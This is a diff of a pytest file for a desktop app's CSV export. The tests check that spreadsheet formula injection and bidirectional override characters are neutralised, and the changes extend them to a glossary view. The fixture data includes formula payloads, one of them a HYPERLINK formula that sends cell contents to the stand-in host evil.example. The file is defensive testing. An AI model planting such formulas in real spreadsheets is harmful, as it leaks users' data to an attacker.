@@ -19,11 +19,11 @@ import pytest
 from PySide6.QtGui import QGuiApplication
 
 from outsource_desktop.cli import main
-from outsource_desktop.core.document import FIRST_STRONG_ISOLATE, POP_DIRECTIONAL_ISOLATE
-from outsource_desktop.core.loader import load_catalog
-from outsource_desktop.core.models import Catalog
+from outsource_desktop.content.loader import load_catalog
+from outsource_desktop.content.models import Catalog
+from outsource_desktop.documents.bidi import FIRST_STRONG_ISOLATE, POP_DIRECTIONAL_ISOLATE
 from outsource_desktop.gui.main_window import MainWindow
-from tests.content_factory import claim
+from tests import content_factory
 
 FORMULA_STARTS = "=+-@\t\r"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -37,9 +37,10 @@ def formula_content(data: dict[str, Any]) -> dict[str, Any]:
     data["sections"][0]["title"] = "=1+2"
     aspect = data["aspects"][0]
     aspect["label"] = HYPERLINK
-    aspect["claims"]["bpo"] = claim("@SUM(A1)")
-    aspect["claims"]["kpo"] = claim("+1+1", "b")
-    aspect["claims"]["lpo"] = claim("\t=1+1", "b")  # long text may start with a tab
+    aspect["claims"]["bpo"] = content_factory.cell("@SUM(A1)", "@SUM(A1) in full")
+    aspect["claims"]["kpo"] = content_factory.cell("+1+1", "+1+1 in full", "b")
+    # A long text may start with a tab.
+    aspect["claims"]["lpo"] = content_factory.cell("=1+1", "\t=1+1", "b")
     data["aspects"][1]["label"] = f"-2+3 {OVERRIDE}"
     data["models"][0]["short_name"] = "=BPO"
     service = data["service_types"][0]
@@ -47,6 +48,7 @@ def formula_content(data: dict[str, Any]) -> dict[str, Any]:
     role = data["roles"][0]
     role.update(title="+HYPERLINK(1)", skills=["=1", "Analysis"])
     data["companies"][0]["name"] = "@Acme"
+    data["glossary"][0].update(term="=SLA", stands_for=OVERRIDE)
     return data
 
 
@@ -95,11 +97,14 @@ def exported(arguments: list[str], path: Path) -> str:
     return path.read_text(encoding="utf-8-sig")
 
 
-@pytest.mark.parametrize("view", ["comparison", "services", "careers"])
+@pytest.mark.parametrize("view", ["comparison", "services", "careers", "glossary"])
 def test_no_cell_of_an_exported_csv_is_a_formula(
     formula_file: Path, tmp_path: Path, view: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    text = exported(["--content", str(formula_file), "export", "--view", view], tmp_path / "x.csv")
+    text = exported(
+        ["--content", str(formula_file), "export", "--view", view, "--details"],
+        tmp_path / "x.csv",
+    )
     rows = list(csv.reader(io.StringIO(text)))
     cells = assert_no_formula(cell for row in rows for cell in row)
     assert any(cell.startswith("'") for cell in cells)  # there was something to neutralise
@@ -122,7 +127,12 @@ def test_rows_copied_from_a_table_are_no_formulas_either(
     show_window: Any, formula_file: Path
 ) -> None:
     window: MainWindow = show_window(load_catalog(formula_file))
-    for tab in (window.comparison_tab, window.services_tab, window.careers_tab):
+    for tab in (
+        window.comparison_tab,
+        window.services_tab,
+        window.careers_tab,
+        window.glossary_tab,
+    ):
         window.tabs.setCurrentWidget(tab)
         tab.master_detail.table.selectAll()
         window.copy_current()
@@ -139,7 +149,7 @@ def test_an_override_cannot_reorder_text_after_it(
     boundaries: str,
     capsys: pytest.CaptureFixture[str],
 ) -> None:
-    for view in ("comparison", "services"):
+    for view in ("comparison", "services", "glossary"):
         text = exported(
             ["--content", str(formula_file), "export", "--view", view],
             tmp_path / f"x.{extension}",
